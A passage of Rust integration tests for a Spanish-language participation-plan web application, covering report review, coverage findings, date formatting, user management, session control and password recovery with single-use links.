    confirmed_step(&app, &admin, &[("accion", "publicar")]).await;
    assert_eq!(status().await, PlanStatus::Published);
    let public = app.get("/planes/1", None).await;
    assert!(
        public.body.contains("Cargo de Usuario approver"),
        "{}",
        public.body
    );
    assert!(public.body.contains(&acta));
    let pdf = app.get("/planes/1/documento.pdf", None).await;
    let text = pdf_text(&pdf.bytes);
    assert!(text.contains("Usuario approver"), "{text}");
    assert!(text.contains("Cargo de Usuario approver"), "{text}");
    assert!(text.contains("Acta del CIGD n.º 12"), "{text}");
}

/// Issue 14, item 3: closing a period shows first what is missing and needs its
/// checkbox; the close ends with a message on the follow-up page.
async fn closing_a_period_shows_what_is_missing_first(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let auditor = app.login("auditor").await;
    let admin = app.login("admin").await;
    let dashboard = app.get("/admin/planes/1/seguimiento", Some(&auditor)).await;
    assert!(dashboard
        .body
        .contains("method=\"get\" action=\"/admin/planes/1/seguimiento/periodos/1/cerrar\""));
    assert_eq!(
        app.get(
            "/admin/planes/1/seguimiento/periodos/1/cerrar",
            Some(&admin)
        )
        .await
        .status,
        StatusCode::FORBIDDEN
    );
    let ask = app
        .get(
            "/admin/planes/1/seguimiento/periodos/1/cerrar",
            Some(&auditor),
        )
        .await;
    assert_eq!(ask.status, StatusCode::OK, "{}", ask.body);
    assert!(ask.body.contains("Actividades sin reporte"));
    assert!(ask
        .body
        .contains("href=\"/admin/planes/1/seguimiento/actividades/"));
    assert!(ask.body.contains("no se puede deshacer"));
    assert!(ask.body.contains("type=\"checkbox\" id=\"confirmar\""));
    let refused = app
        .post(
            "/admin/planes/1/seguimiento/periodos/1/cerrar",
            Some(&auditor),
            &[],
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refused.body.contains("marque la casilla"));
    assert!(app
        .store
        .followup(PlanId(1))
        .await
        .unwrap()
        .closures
        .is_empty());
    let closed = app
        .post(
            "/admin/planes/1/seguimiento/periodos/1/cerrar",
            Some(&auditor),
            &[("confirmar", "si")],
        )
        .await;
    assert_eq!(
        closed.location.as_deref(),
        Some("/admin/planes/1/seguimiento")
    );
    assert_eq!(
        app.store.followup(PlanId(1)).await.unwrap().closures.len(),
        1
    );
    let landed = app.get("/admin/planes/1/seguimiento", Some(&auditor)).await;
    assert!(
        landed.body.contains("role=\"status\">Periodo «"),
        "{}",
        landed.body
    );
    assert!(landed
        .body
        .contains("cerrado: sus reportes quedaron bloqueados."));
}

/// Issue 14, items 3 and 4: the review form pre-selects no decision; a returned report
/// lands on its period's form with internal control's observations above it, filled with
/// what was sent; the resubmission keeps the earlier one in the history, and the
/// follow-up report shows the latest accepted text with the history.
async fn returned_reports_land_on_the_form_with_the_observations(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let reporter = app.login("reporter").await;
    let auditor = app.login("auditor").await;
    let base = "/admin/planes/1/seguimiento/actividades/13";
    let first = "Primer envío: transmisión en vivo";
    let sent = app
        .post_files(
            &format!("{base}/avance"),
            Some(&reporter),
            &[("periodo", "1"), ("avance", "40"), ("descripcion", first)],
            &[],
        )
        .await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    let form = app.get(base, Some(&auditor)).await;
    assert!(form.body.contains("name=\"decision\" value=\"aceptar\">"));
    assert!(form.body.contains("name=\"decision\" value=\"devolver\">"));
    let typed = "Observación que no se pierde";
    let undecided = app
        .post(
            &format!("{base}/revision"),
            Some(&auditor),
            &[
                ("periodo", "1"),
                ("avance_verificado", ""),
                ("suficiencia", "parcial"),
                ("observaciones", typed),
            ],
        )
        .await;
    assert_eq!(undecided.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(undecided
        .body
        .contains("Elija si acepta o devuelve el reporte"));
    assert!(undecided.body.contains(typed));
    assert!(app.store.followup(PlanId(1)).await.unwrap().reports[0]
        .reviews
        .is_empty());
    let obs = "Falta el enlace de la transmisión";
    let rec = "Adjunte el listado de asistencia";
    let back = app
        .post(
            &format!("{base}/revision"),
            Some(&auditor),
            &[
                ("periodo", "1"),
                ("decision", "devolver"),
                ("suficiencia", "parcial"),
                ("observaciones", obs),
                ("recomendaciones", rec),
            ],
        )
        .await;
    assert_eq!(back.status, StatusCode::SEE_OTHER, "{}", back.body);
    let landed = app.get(&format!("{base}?periodo=1"), Some(&reporter)).await;
    let body = &landed.body;
    let notice = body
        .find("Control interno devolvió el reporte")
        .expect(body);
    let field = body.find("id=\"descripcion\"").unwrap();
    assert!(notice < field, "the observations come above the form");
    assert!(body[notice..field].contains(obs) && body[notice..field].contains(rec));
    let textarea = &body[field..body[field..].find("</textarea>").unwrap() + field];
    assert!(
        textarea.contains(first),
        "the form holds what was sent: {textarea}"
    );
    assert!(body.contains("value=\"40\""));
    let second = "Segundo envío con el enlace";
    let resent = app
        .post_files(
            &format!("{base}/avance"),
            Some(&reporter),
            &[("periodo", "1"), ("avance", "45"), ("descripcion", second)],
            &[],
        )
        .await;
    assert_eq!(resent.status, StatusCode::SEE_OTHER, "{}", resent.body);
    let ok = app
        .post(
            &format!("{base}/revision"),
            Some(&auditor),
            &[
                ("periodo", "1"),
                ("decision", "aceptar"),
                ("avance_verificado", "45"),
                ("suficiencia", "si"),
            ],
        )
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
    let history = app.get(base, Some(&reporter)).await;
    assert!(history.body.contains(first) && history.body.contains(second));
    assert!(!history.body.contains("Control interno devolvió el reporte"));
    let pdf = app
        .get("/admin/planes/1/informes/seguimiento/1.pdf", Some(&auditor))
        .await;
    assert_eq!(pdf.status, StatusCode::OK);
    let text = pdf_text(&pdf.bytes)
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    let shown = text.find(&format!("Avance: {second}")).expect(&text);
    let past = text
        .find("Historial de reportes y revisiones")
        .expect(&text);
    assert!(shown < past);
    assert!(text[past..].contains(first) && text[past..].contains("devuelto"));
}

/// The text a person reads on a page: without tags (and so without attribute values,
/// where a form keeps its ISO dates for the browser).
fn visible_text(html: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    for c in html.chars() {
        match c {
            '<' => in_tag = true,
            '>' => {
                in_tag = false;
                out.push(' ');
            }
            c if !in_tag => out.push(c),
            _ => {}
        }
    }
    out
}

/// The first `AAAA-MM-DD` in `text`, if any.
fn iso_date(text: &str) -> Option<String> {
    let b: Vec<char> = text.chars().collect();
    let digit = |i: usize| b.get(i).is_some_and(|c| c.is_ascii_digit());
    (0..b.len()).find_map(|i| {
        let shape = (0..4).all(|k| digit(i + k))
            && b.get(i + 4) == Some(&'-')
            && digit(i + 5)
            && digit(i + 6)
            && b.get(i + 7) == Some(&'-')
            && digit(i + 8)
            && digit(i + 9)
            && !(i > 0 && digit(i - 1));
        shape.then(|| {
            b[i.saturating_sub(30)..(i + 20).min(b.len())]
                .iter()
                .collect()
        })
    })
}

/// Issue 14, item 7: coverage findings are sentences with their code small, link to the
/// activities they name, are accepted together with one justification, and a suggested
/// activity is created from its finding in one step.
async fn coverage_findings_read_as_sentences_and_are_acted_on_together(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let c = Some(admin.as_str());
    let page = app.get("/admin/planes/1/cobertura", c).await;
    assert_eq!(page.status, StatusCode::OK);
    // Headings are sentences; codes are small, never a heading.
    assert!(
        page.body.contains(
            "Ninguna actividad cubre la fase de diagnóstico del ciclo de la gestión.</h3>"
        ),
        "{}",
        page.body
    );
    assert!(page
        .body
        .contains("<small>Código: <code>FASE:diagnostico</code></small>"));
    for heading in page.body.split("<h3").skip(1) {
        let text = heading.split("</h3>").next().unwrap();
        assert!(
            !text.contains("FASE:") && !text.contains("COMPONENTE:") && !text.contains("MURC_"),
            "{text}"
        );
    }
    assert!(!page.body.contains("hallazgo(s)") && !page.body.contains("pendiente(s)"));
    // The finding on activities without groups of value links to each of them.
    assert!(page
        .body
        .contains("no indican a qué grupos de valor se dirigen"));
    assert!(page
        .body
        .contains(r#"<a href="/admin/planes/1/actividades/15/editar">actividad 15</a>"#));

    // One step: the suggested activity is created with its tags, and its form opens.
    let created = app
        .post(
            "/admin/planes/1/cobertura/actividad",
            c,
            &[("codigo", "COMPONENTE:control_social")],
        )
        .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    assert_eq!(
        created.location.as_deref(),
        Some("/admin/planes/1/actividades/16/editar?mensaje=sugerida")
    );
    let form = app.get("/admin/planes/1/actividades/16/editar", c).await;
    assert_eq!(form.status, StatusCode::OK);
    let form = app
        .get("/admin/planes/1/actividades/16/editar?mensaje=sugerida", c)
        .await;
    assert!(form
        .body
        .contains("Se creó la actividad sugerida por el hallazgo"));
    assert!(
        form.body.contains(r#"value="control_social" checked"#),
        "{}",
        form.body
    );
    assert!(form.body.contains("Un espacio de control social"));
    let plan = app.store.plan(PlanId(1)).await.unwrap();
    let a16 = plan
        .activities
        .iter()
        .find(|a| a.number.get() == 16)
        .unwrap();
    assert_eq!(a16.responsible[0].as_str(), "OAPLA");
    let page = app.get("/admin/planes/1/cobertura", c).await;
    assert!(!page.body.contains("COMPONENTE:control_social"));
    let audit = app
        .store
        .audit_entries(&participa_store::AuditFilter {
            action: Some(participa_store::AuditAction::ActivityCreate),
            ..Default::default()
        })
        .await
        .unwrap();
    assert!(audit[0]
        .subject
        .contains("sugerida por el hallazgo COMPONENTE:control_social"));
    // A finding no new activity covers, or one the plan no longer has, is refused in words.
    for code in [
        "NORMA:Ley 1750 de 2015",
        "COMPONENTE:control_social",
        "<b>x</b>",
    ] {
        let refused = app
            .post(
                "/admin/planes/1/cobertura/actividad",
                c,
                &[("codigo", code)],
            )
            .await;
        assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{code}");
        assert!(refused
            .body
            .contains("vuelva a la verificación de cobertura"));
        assert!(!refused.body.contains("<b>x"));
    }
    assert_eq!(
        app.store.plan(PlanId(1)).await.unwrap().activities.len(),
        16
    );

    // Several findings accepted together with one justification.
    let two = [
        ("codigo", "FASE:diagnostico"),
        ("codigo", "NORMA:Ley 1750 de 2015"),
    ];
    let mut blank = two.to_vec();
    blank.push(("justificacion", " "));
    let refused = app
        .post("/admin/planes/1/cobertura/aceptar", c, &blank)
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refused
        .body
        .contains("Escriba por qué se aceptan los hallazgos elegidos"));
    // What was chosen stays chosen.
    assert_eq!(
        refused
            .body
            .matches(r#"form="aceptar-hallazgos" checked"#)
            .count(),
        2
    );
    let none = app
        .post(
            "/admin/planes/1/cobertura/aceptar",
            c,
            &[("justificacion", "Texto que no se pierde")],
        )
        .await;
    assert_eq!(none.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(none.body.contains("Elija al menos un hallazgo pendiente"));
    assert!(none.body.contains("Texto que no se pierde"));
    let mut both = two.to_vec();
    both.push(("justificacion", "Se atienden en la versión 2 del plan"));
    let accepted = app
        .post("/admin/planes/1/cobertura/aceptar", c, &both)
        .await;
    assert_eq!(
        accepted.location.as_deref(),
        Some("/admin/planes/1/cobertura?mensaje=aceptados#hallazgos")
    );
    let coverage = app.store.coverage(PlanId(1)).await.unwrap();
    for code in ["FASE:diagnostico", "NORMA:Ley 1750 de 2015"] {
        let item = coverage
            .items
            .iter()
            .find(|i| i.finding.code == code)
            .unwrap();
        assert_eq!(
            item.acceptance.as_ref().map(|a| a.justification.as_str()),
            Some("Se atienden en la versión 2 del plan")
        );
    }
    let page = app
        .get("/admin/planes/1/cobertura?mensaje=aceptados", c)
        .await;
    assert!(page
        .body
        .contains("Hallazgos aceptados con una misma justificación."));
    // The moment of the acceptance as Colombia writes it: «30 abr 2025, 17:47».
    let accepted_at = page
        .body
        .split("Aceptado por Usuario admin el ")
        .nth(1)
        .unwrap();
    let moment = accepted_at.split(':').next().unwrap();
    let today = participa_app::dates::fecha(participa_app::dates::today());
    assert!(
        moment.starts_with(&today) || moment.contains(", "),
        "{moment}"
    );
    assert!(iso_date(&visible_text(&page.body)).is_none());

    // The audit log names each action in Spanish, and filters by it.
    let log = app.get("/admin/auditoria?accion=coverage.accept", c).await;
    assert_eq!(log.status, StatusCode::OK);
    assert!(log.body.contains(r#"<option value="coverage.accept" selected>Aceptó un hallazgo de la verificación de cobertura</option>"#));
    let rows = log.body.matches(r#"data-code="coverage.accept""#).count();
    assert_eq!(rows, 2, "{}", log.body);
    assert!(!log.body.contains(r#"data-code="activity.create""#));
}

/// Issue 14, item 7: every staff page writes a date as «30 abr 2025» and a moment as
/// «30 abr 2025, 17:47»; no page shows a date as AAAA-MM-DD.
async fn staff_pages_write_dates_as_colombia_reads_them(db: TestDatabase) {
    let app = TestApp::new(db).await;
    participation_fixtures(&app).await;
    let admin = app.login("admin").await;
    let c = Some(admin.as_str());
    for pages in [
        "/admin/planes/1",
        "/admin/planes/1/cobertura",
        "/admin/planes/1/versiones",
        "/admin/planes/1/seguimiento",
        "/admin/auditoria",
        "/admin/parametros",
        "/admin/festivos",
        "/admin/audiencias",
        "/admin/consultas",
        "/admin/sugerencias",
        "/admin/usuarios",
        "/admin/audiencias/1",
        "/admin/consultas/1",
        "/admin/consultas/2",
        "/admin/sugerencias/1",
        "/admin/eventos",
        "/admin/canales",
        "/admin/grupos-valor",
        "/audiencias/1",
        "/",
    ] {
        let r = app.get(pages, c).await;
        assert_eq!(r.status, StatusCode::OK, "{pages}");
        // The audit log's «before» and «after» cells show the stored record as it was
        // saved (data, not wording): left out.
        let words: String = r
            .body
            .split(r#"<td class="data">"#)
            .enumerate()
            .map(|(i, part)| match (i, part.split_once("</td>")) {
                (0, _) | (_, None) => part,
                (_, Some((_, rest))) => rest,
            })
            .collect();
        if let Some(found) = iso_date(&visible_text(&words)) {
            panic!("{pages} writes a date as AAAA-MM-DD: «{found}»");
        }
    }
    let log = app.get("/admin/auditoria", c).await;
    let text = visible_text(&log.body);
    let today = participa_app::dates::fecha(participa_app::dates::today());
    assert!(text.contains(&format!("{today}, ")), "{text}");
}

/// The temporary password a page shows once (`<code>…</code>`).
fn shown_password(body: &str) -> String {
    let start = body.find("<code>").expect("a password shown") + "<code>".len();
    let end = start + body[start..].find("</code>").unwrap();
    body[start..end].to_string()
}

impl TestApp {
    /// Signs in with `password` from a browser that says it is `agent`; the reply (a
    /// redirect) and its session cookie.
    async fn sign_in_as(&self, user: &str, password: &str, agent: &str) -> (Reply, String) {
        let body: String = form_urlencoded::Serializer::new(String::new())
            .extend_pairs([
                ("usuario", user),
                ("clave", password),
                ("siguiente", "/admin/planes"),
            ])
            .finish();
        let r = self
            .send(
                Request::post("/ingresar")
                    .header(header::HOST, HOST)
                    .header(header::ORIGIN, ORIGIN)
                    .header(header::USER_AGENT, agent)
                    .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                    .body(Body::from(body))
                    .unwrap(),
            )
            .await;
        assert_eq!(
            r.status,
            StatusCode::SEE_OTHER,
            "sign in {user}: {}",
            r.body
        );
        let cookie = r.cookie.clone().expect("a session cookie");
        (r, cookie)
    }

    async fn user_id(&self, name: &str) -> i64 {
        self.store
            .users()
            .await
            .unwrap()
            .into_iter()
            .find(|u| u.username == name)
            .unwrap()
            .id
    }
}

const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0";
const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";

/// Issue 14, part 9: a password generated for a user (created or reset by the admin)
/// must be changed at the first sign-in; until then every other staff page, whatever
/// the method, sends the user to the change form, which says why.
async fn a_generated_password_must_be_changed_before_anything_else(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let created = app
        .post(
            "/admin/usuarios/nuevo",
            Some(&admin),
            &[
                ("usuario", "ana"),
                ("nombre", "Ana Pérez"),
                ("rol", "auditor"),
                ("activo", "si"),
            ],
        )
        .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    assert_eq!(created.location.as_deref(), Some("/admin/usuarios"));
    let list = app.get("/admin/usuarios", Some(&admin)).await;
    assert!(
        list.body.contains("Se creó el usuario «ana»"),
        "{}",
        list.body
    );
    assert!(list.body.contains("le pedirá a ana cambiarla"));
    let temporary = shown_password(&list.body);
    let again = app.get("/admin/usuarios", Some(&admin)).await;
    assert!(
        !again.body.contains(&temporary),
        "the password is shown only once"
    );

    let (signed, ana) = app.sign_in_as("ana", &temporary, FIREFOX).await;
    assert_eq!(
        signed.location.as_deref(),
        Some("/admin/cuenta/clave?siguiente=%2Fadmin%2Fplanes")
    );
    for path in [
        "/admin/planes",
        "/admin/cuenta",
        "/admin/auditoria",
        "/admin",
    ] {
        let r = app.get(path, Some(&ana)).await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{path}");
        assert!(
            r.location
                .as_deref()
                .unwrap()
                .starts_with("/admin/cuenta/clave"),
            "{path}: {:?}",
            r.location
        );
    }
    let post = app.post("/admin/cuenta/sesiones", Some(&ana), &[]).await;
    assert_eq!(post.status, StatusCode::SEE_OTHER);
    assert!(post
        .location
        .as_deref()
        .unwrap()
        .starts_with("/admin/cuenta/clave"));
    let form = app
        .get(
            "/admin/cuenta/clave?siguiente=%2Fadmin%2Fplanes",
            Some(&ana),
        )
        .await;
    assert_eq!(form.status, StatusCode::OK);
    assert!(form.body.contains("Antes de seguir, cambie su contraseña"));
    assert!(form.body.contains("es temporal"));
    assert!(form
        .body
        .contains(r#"name="siguiente" value="/admin/planes""#));
    let new = "una clave que solo ella conoce";
    let changed = app
        .post(
            "/admin/cuenta/clave",
            Some(&ana),
            &[
                ("actual", &temporary),
                ("nueva", new),
                ("repetir", new),
                ("siguiente", "/admin/planes"),
            ],
        )
        .await;
    assert_eq!(changed.status, StatusCode::OK, "{}", changed.body);
    assert!(changed.body.contains("quedó cambiada"));
    assert!(changed.body.contains(r#"href="/admin/planes""#));
    let ana = changed.cookie.unwrap_or(ana);
    assert_eq!(
        app.get("/admin/planes", Some(&ana)).await.status,
        StatusCode::OK
    );
    assert!(
        !app.store
            .user(app.user_id("ana").await)
            .await
            .unwrap()
            .unwrap()
            .must_change_password
    );

    // The admin's reset makes it temporary again.
    let id = app.user_id("ana").await;
    let reset = app
        .post(&format!("/admin/usuarios/{id}/clave"), Some(&admin), &[])
        .await;
    assert_eq!(reset.location.as_deref(), Some("/admin/usuarios"));
    let list = app.get("/admin/usuarios", Some(&admin)).await;
    assert!(list.body.contains("Se restableció la contraseña de «ana»"));
    let temporary = shown_password(&list.body);
    let (signed, _) = app.sign_in_as("ana", &temporary, FIREFOX).await;
    assert!(signed
        .location
        .as_deref()
        .unwrap()
        .starts_with("/admin/cuenta/clave"));
    // A user who chose their password goes where they asked.
    let (signed, _) = app.sign_in_as("auditor", PASSWORD, FIREFOX).await;
    assert_eq!(signed.location.as_deref(), Some("/admin/planes"));
}

/// Issue 14, part 9: the user form offers the plans' offices by name (no codes typed by
/// hand), and a save lands on the user list with a confirmation (a reload repeats
/// nothing).
async fn the_user_form_offers_the_plans_offices_and_lands_on_the_list(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let form = app.get("/admin/usuarios/nuevo", Some(&admin)).await;
    assert!(
        form.body
            .contains(r#"<input type="checkbox" name="dependencias" value="ARCOM">"#),
        "{}",
        form.body
    );
    assert!(form.body.contains("Área de Comunicaciones"));
    assert!(form.body.contains("Área de Vivienda"));
    // A reporter without an office is refused, with what was typed kept.
    let refused = app
        .post(
            "/admin/usuarios/nuevo",
            Some(&admin),
            &[
                ("usuario", "rep2"),
                ("nombre", "Reportera Dos"),
                ("rol", "reporter"),
                ("activo", "si"),
            ],
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refused.body.contains("marque la suya en la lista"));
    assert!(refused.body.contains(r#"value="Reportera Dos""#));
    let created = app
        .post(
            "/admin/usuarios/nuevo",
            Some(&admin),
            &[
                ("usuario", "rep2"),
                ("nombre", "Reportera Dos"),
                ("rol", "reporter"),
                ("dependencias", "ARCOM"),
                ("dependencias", "ARVIV"),
                ("activo", "si"),
            ],
        )
        .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    assert_eq!(created.location.as_deref(), Some("/admin/usuarios"));
    let id = app.user_id("rep2").await;
    let user = app.store.user(id).await.unwrap().unwrap();
    let codes: Vec<&str> = user.offices.iter().map(|o| o.as_str()).collect();
    assert_eq!(codes, ["ARCOM", "ARVIV"]);
    let edit = app
        .get(&format!("/admin/usuarios/{id}"), Some(&admin))
        .await;
    assert!(edit
        .body
        .contains(r#"name="dependencias" value="ARVIV" checked"#));
    assert!(edit
        .body
        .contains(r#"<input type="checkbox" name="dependencias" value="OAPLA">"#));
    // An office no plan names yet is written in «otras»; a bad code is refused there.
    let bad = app
        .post(
            &format!("/admin/usuarios/{id}"),
            Some(&admin),
            &[
                ("nombre", "Reportera Dos"),
                ("rol", "reporter"),
                ("dependencias", "ARCOM"),
                ("otras_dependencias", "no vale!"),
                ("activo", "si"),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.body.contains(r#"value="no vale!""#), "{}", bad.body);
    let saved = app
        .post(
            &format!("/admin/usuarios/{id}"),
            Some(&admin),
            &[
                ("nombre", "Reportera Dos"),
                ("rol", "reporter"),
                ("dependencias", "ARCOM"),
                ("otras_dependencias", "NUEVA"),
                ("activo", "si"),
            ],
        )
        .await;
    assert_eq!(saved.location.as_deref(), Some("/admin/usuarios"));
    let list = app.get("/admin/usuarios", Some(&admin)).await;
    assert!(list
        .body
        .contains("Se guardaron los cambios del usuario «rep2»"));
    let user = app.store.user(id).await.unwrap().unwrap();
    let codes: Vec<&str> = user.offices.iter().map(|o| o.as_str()).collect();
    assert_eq!(codes, ["ARCOM", "NUEVA"]);
    let edit = app
        .get(&format!("/admin/usuarios/{id}"), Some(&admin))
        .await;
    assert!(edit.body.contains("no figura en ningún plan"));
    assert!(edit
        .body
        .contains(r#"name="dependencias" value="NUEVA" checked"#));
}

/// Issue 14, part 9: the account page lists the user's sessions (browser, this one
/// marked) and «Cerrar las otras sesiones» ends all but this one, audited.
async fn the_account_page_lists_sessions_and_ends_the_others(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let (_, here) = app.sign_in_as("auditor", PASSWORD, FIREFOX).await;
    let (_, phone) = app.sign_in_as("auditor", PASSWORD, CHROME).await;
    let other_user = app.login("reporter").await;
    let page = app.get("/admin/cuenta", Some(&here)).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    assert!(page.body.contains("Mi cuenta"));
    assert!(page.body.contains("Firefox en Linux"));
    assert!(page.body.contains("Chrome en Windows"));
    assert_eq!(page.body.matches("esta sesión").count(), 1);
    assert!(page.body.contains("Cerrar las otras sesiones"));
    assert!(
        page.body.contains(r#"action="/admin/cuenta/clave""#),
        "the password form lives there too"
    );
    let ended = app.post("/admin/cuenta/sesiones", Some(&here), &[]).await;
    assert_eq!(ended.status, StatusCode::SEE_OTHER);
    assert_eq!(ended.location.as_deref(), Some("/admin/cuenta?cerradas=1"));
    let here = ended.cookie.unwrap_or(here);
    let after = app.get("/admin/cuenta?cerradas=1", Some(&here)).await;
    assert_eq!(after.status, StatusCode::OK);
    assert!(after.body.contains("Se cerró 1 sesión"));
    assert!(!after.body.contains("Chrome en Windows"));
    assert!(after.body.contains("No hay otras sesiones abiertas"));
    assert_eq!(
        outcome(&app.get("/admin/planes", Some(&phone)).await),
        SignIn,
        "the other session ended"
    );
    assert_eq!(
        app.get("/admin/planes", Some(&other_user)).await.status,
        StatusCode::OK,
        "another user's session is untouched"
    );
    let audit = app
        .store
        .audit_entries(&participa_store::AuditFilter {
            user_id: Some(app.user_id("auditor").await),
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(audit[0].action.code(), "user.end_other_sessions");
}

/// Issue 14, part 9: a forgotten password. The request's answer never says whether the
/// name exists; the link works once, until it expires, sets a password by the usual
/// rules and ends every session; requests are limited per address without touching
/// the sign-in counts, and a stranger asking again and again takes away no link.
async fn a_forgotten_password_is_recovered_with_a_single_use_link(db: TestDatabase) {
    let app = TestApp::with_mail(db).await;
    let login = app.get("/ingresar", None).await;
    assert!(login.body.contains(r#"href="/ingresar/recuperar""#));
    let form = app.get("/ingresar/recuperar", None).await;
    assert_eq!(form.status, StatusCode::OK);
    let empty = app
        .post("/ingresar/recuperar", None, &[("usuario", " ")])
        .await;
    assert_eq!(empty.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(empty.body.contains("Escriba su usuario"));
    let known = app
        .post("/ingresar/recuperar", None, &[("usuario", "Auditor")])
        .await;
    let unknown = app
        .post("/ingresar/recuperar", None, &[("usuario", "nadiexx")])
        .await;
    assert_eq!(known.status, StatusCode::OK);
    assert_eq!(unknown.status, known.status);
    assert_eq!(
        unknown.body.replace("nadiexx", "Auditor"),
        known.body,
        "the answer does not tell which names exist"
    );
    assert!(known.body.contains("le enviamos a ese correo un enlace"));
    let count = |table: &'static str| {
        let app = &app;
        async move {
            let sql = format!("SELECT COUNT(*) AS n FROM {table}");
            let n: i64 = participa_store::on_conn!(app.store.conn().await.unwrap(), |pool| {
                sqlx::Row::get(&sqlx::query(&sql).fetch_one(&mut *pool).await.unwrap(), "n")
            });
            n
        }
    };
    assert_eq!(
        count("password_recoveries").await,
        1,
        "one link, for the account that exists"
    );

    // The e-mail waits in the outbox, to the address only; its text holds the link.
    let mut mails = app
        .store
        .claim_mail(
            chrono::Utc::now(),
            &participa_store::RetryPolicy::default(),
            10,
        )
        .await
        .unwrap();
    assert_eq!(mails.len(), 1);
    let mail = mails.remove(0);
    assert_eq!(mail.to, "auditor@participa.test");
    assert!(mail.link.is_empty(), "the link is only in the text");
    let start = mail
        .body
        .find("http://participa.test/ingresar/recuperar/")
        .expect("the link")
        + "http://participa.test/ingresar/recuperar/".len();
    let token = mail.body[start..start + 64].to_string();
    assert!(mail.body.contains("«auditor»"));
    assert!(app
        .store
        .mail_sent(&mail, chrono::Utc::now())
        .await
        .unwrap());
    // Once sent, the token is nowhere in the database.
    let token_kept: i64 = participa_store::on_conn!(app.store.conn().await.unwrap(), |pool| {
        sqlx::Row::get(
            &sqlx::query(
                "SELECT COUNT(*) AS n FROM notifications WHERE body LIKE $1 OR link LIKE $1",
            )
            .bind(format!("%{token}%"))
            .fetch_one(&mut *pool)
            .await
            .unwrap(),
            "n",
        )
    });
    assert_eq!(token_kept, 0);
    let digests: i64 = participa_store::on_conn!(app.store.conn().await.unwrap(), |pool| {
        sqlx::Row::get(
            &sqlx::query("SELECT COUNT(*) AS n FROM password_recoveries WHERE token_digest = $1")
                .bind(&token)
                .fetch_one(&mut *pool)
                .await
                .unwrap(),
            "n",
        )
    });
    assert_eq!(digests, 0, "only the digest is kept");

    let id = app.user_id("auditor").await;
    let now = chrono::Utc::now();
    let system = Actor::system();
    let recovery_mail = participa_store::RecoveryMail {
        to: "auditor@participa.test".into(),
        name: "Auditor".into(),
        subject: "Recuperar".into(),
        body: "enlace".into(),
    };
    let issue = |token: String, expires: chrono::DateTime<chrono::Utc>| {
        let app = &app;
        let system = &system;
        let mail = &recovery_mail;
        async move {
            app.store
                .issue_recovery(
                    id,
                    &token,
                    now,
                    expires,
                    mail,
                    &participa_store::Change {
                        actor: system,
                        action: participa_store::AuditAction::PasswordRecoveryRequest,
                        plan_id: None,
                        subject: "usuario auditor".into(),
                        before: None,
                        after: None,
                    },
                )
                .await
                .unwrap();
        }
    };
    let session = app.login("auditor").await;
    let path = format!("/ingresar/recuperar/{token}");
    let page = app.get(&path, None).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    assert!(page.body.contains("<strong>auditor</strong>"));
    let weak = app
        .post(
            &path,
            None,
            &[("nueva", "auditor12345678"), ("repetir", "auditor12345678")],
        )
        .await;
    assert_eq!(weak.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(weak.body.contains("no puede contener el nombre de usuario"));
    let same = app
        .post(&path, None, &[("nueva", PASSWORD), ("repetir", PASSWORD)])
        .await;
    assert_eq!(same.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(same.body.contains("distinta de la anterior"));
    let new = "la clave recuperada con el enlace";
    let done = app
        .post(&path, None, &[("nueva", new), ("repetir", new)])
        .await;
    assert_eq!(done.status, StatusCode::OK, "{}", done.body);
    assert!(done.body.contains("quedó cambiada"));
    assert_eq!(
        outcome(&app.get("/admin/planes", Some(&session)).await),
        SignIn,
        "every session ended"
    );
    let (_, _) = app.sign_in_as("auditor", new, FIREFOX).await;
    let used = app.get(&path, None).await;
    assert_eq!(used.status, StatusCode::GONE);
    assert!(used.body.contains("ya se usó"));
    let twice = app
        .post(
            &path,
            None,
            &[
                ("nueva", "x otra clave larga y rara"),
                ("repetir", "x otra clave larga y rara"),
            ],
        )
        .await;
    assert_eq!(twice.status, StatusCode::GONE);
    let old = participa_store::random_token().unwrap();
    issue(old.clone(), now - chrono::Duration::seconds(1)).await;
    let expired = app.get(&format!("/ingresar/recuperar/{old}"), None).await;
    assert_eq!(expired.status, StatusCode::GONE);
    assert!(expired.body.contains("venció"));
    let junk = app.get("/ingresar/recuperar/abc", None).await;
    assert_eq!(junk.status, StatusCode::NOT_FOUND);
    assert!(junk.body.contains("no es válido"));
    let audit = app
        .store
        .audit_entries(&participa_store::AuditFilter {
            user_id: Some(id),
            ..Default::default()
        })
        .await
        .unwrap();
    assert!(audit
        .iter()
        .any(|e| e.action.code() == "user.password_recover"));

